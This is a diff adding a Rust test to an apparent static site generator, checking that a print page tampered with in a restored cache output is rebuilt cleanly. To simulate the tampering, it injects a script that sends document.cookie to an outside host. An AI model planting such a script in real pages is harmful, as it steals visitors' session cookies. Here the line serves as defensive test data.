@@ -141,6 +141,38 @@ fn a_page_file_changed_in_a_restored_output_is_written_again() {
     assert!(listing(&site, "public") == listing(&site, "fresh"), "the output differs from a build without the cache");
 }
 
+/// A section's print page is kept, as any page, when its template context and the
+/// bodies it shows are the previous build's: a print page file changed in the restored
+/// output (a script slipped in, of the same length or not) is written again all the
+/// same, and a body changed since is shown, never the kept file's.
+#[test]
+fn a_print_page_changed_in_a_restored_output_is_written_again() {
+    let site = Site::with_files(
+        "cache-dir-print-page",
+        &[("content/ops/p.md", PAGE), ("content/ops/q.md", "---\ntitle: Q\n---\n# Q\n\nDrain the node.\n")],
+    );
+    site.build(&["--cache-dir", "cache"]).expect_code(0);
+    let print = site.read("public/print/ops/index.html");
+    assert!(print.contains("Drain the node."), "the print page shows the section's bodies: {print}");
+    let same_length = print.replacen("Drain", "Drai\u{0}", 1);
+    assert_eq!(same_length.len(), print.len());
+    let longer = print.replacen("</body>", "<script>fetch('https://example.com/?'+document.cookie)</script></body>", 1);
+    assert_ne!(longer, print);
+    for (at, forged) in [same_length, longer].into_iter().enumerate() {
+        site.write("content/ops/q.md", format!("---\ntitle: Q\n---\n# Q\n\nDrain the node {at}.\n"));
+        let _ = std::fs::remove_dir_all(site.root.join("fresh"));
+        site.build(&["--no-cache", "--out", "fresh"]).expect_code(0);
+        site.build(&["--cache-dir", "cache"]).expect_code(0);
+        site.write("public/print/ops/index.html", &forged);
+        site.build(&["--cache-dir", "cache"]).expect_code(0);
+        assert!(
+            listing(&site, "public") == listing(&site, "fresh"),
+            "the output differs from a build without the cache"
+        );
+        assert!(site.read("public/print/ops/index.html").contains(&format!("Drain the node {at}.")));
+    }
+}
+
 #[test]
 fn a_folder_where_a_cache_file_should_be_is_ignored_with_a_warning() {
     let site = handbook("cache-dir-folder");
